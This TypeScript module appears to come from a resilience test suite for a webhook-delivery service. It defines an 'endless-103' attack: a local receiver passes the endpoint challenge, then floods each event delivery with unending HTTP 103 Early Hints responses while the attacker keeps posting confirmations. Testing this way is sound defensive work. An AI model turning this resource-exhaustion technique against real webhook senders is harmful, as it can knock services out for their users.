import { once } from 'node:events';
import { type AddressInfo, createServer, type Socket } from 'node:net';
import type { Attack, Target } from '../attack.ts';
import { CONTRIBUTIONS, confirmation, post } from '../requests.ts';

const HINT = 'HTTP/1.1 103 Early Hints\r\nLink: </>; rel=preload\r\n\r\n'.repeat(200);

export const endless103: Attack = {
  name: 'endless-103',
  sends: 'confirmations within its rate, to whose events its receiver answers 103 without an end',
  connections: 4,
  async run(target) {
    const { attacker, connections, apiKey } = target;
    const url = await openReceiver(target);
    await target.addEndpoint(url);
    const turn = attacker.pace(20);
    await attacker.each(connections, async (connection) => {
      for (;;) {
        await turn();
        await connection.ask(post(CONTRIBUTIONS, confirmation(), { apiKey }));
      }
    });
  },
};

/** It answers the challenge, and everything else with interim answers for as long as they are taken. */
async function openReceiver({ attacker: { signal } }: Target): Promise<string> {
  const server = createServer((socket) => {
    socket.on('error', () => {});
    signal.addEventListener('abort', () => socket.destroy());
    let received = '';
    socket.setEncoding('utf8').on('data', (text) => {
      received += text;
      const challenge = /"challenge":"([^"]+)"/.exec(received)?.[1];
      if (challenge !== undefined) socket.end(answerTo(challenge));
      else if (received.includes('}')) pour(socket);
    });
  }).listen(0, '127.0.0.1');
  signal.addEventListener('abort', () => server.close());
  await once(server, 'listening');
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
}

function answerTo(challenge: string): string {
  const body = JSON.stringify({ challenge });
  return `HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`;
}

function pour(socket: Socket): void {
  if (socket.destroyed) return;
  if (socket.write(HINT)) setImmediate(() => pour(socket));
  else socket.once('drain', () => pour(socket));
}
